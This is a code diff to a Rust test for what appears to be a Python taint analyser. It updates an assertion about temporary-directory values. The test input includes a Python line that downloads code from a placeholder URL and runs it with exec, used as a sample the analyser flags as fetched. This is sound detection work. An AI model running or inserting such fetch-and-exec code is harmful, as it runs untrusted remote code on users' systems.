@@ -142,7 +142,11 @@ fn a_temporary_directory_and_what_is_fetched_are_told_from_what_is_unknown() {
         _ => None,
     };
     let made = read("import tempfile, shutil; d = tempfile.mkdtemp(); shutil.rmtree(d)");
-    assert_eq!(why(&made[0].args[0]).map(|(why, _)| why), Some(UnknownReason::Temporary), "{made:?}");
+    assert_eq!(
+        why(&made[0].args[0]).map(|(why, _)| why),
+        Some(UnknownReason::Temporary { variable: false }),
+        "{made:?}"
+    );
     let fetched = read("from urllib.request import urlopen\nexec(urlopen('http://x').read())");
     assert_eq!(why(&fetched[1].args[0]).map(|(_, taint)| taint), Some(Taint::FETCHED), "{fetched:?}");
 }
